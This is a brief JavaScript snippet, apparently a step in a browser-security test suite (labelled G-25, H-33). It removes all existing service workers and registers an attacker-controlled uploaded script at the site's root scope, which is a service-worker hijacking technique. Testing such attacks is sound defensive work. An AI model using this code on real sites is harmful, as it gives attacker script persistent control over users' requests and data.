// G-25, H-33: a service worker, where the origin serves a script of the attacker's (an upload, a JSONP endpoint).

for (const registration of await navigator.serviceWorker.getRegistrations()) await registration.unregister();
await navigator.serviceWorker.register("/uploads/attacker.js", { scope: "/" });
await navigator.serviceWorker.ready;
await wait(300);
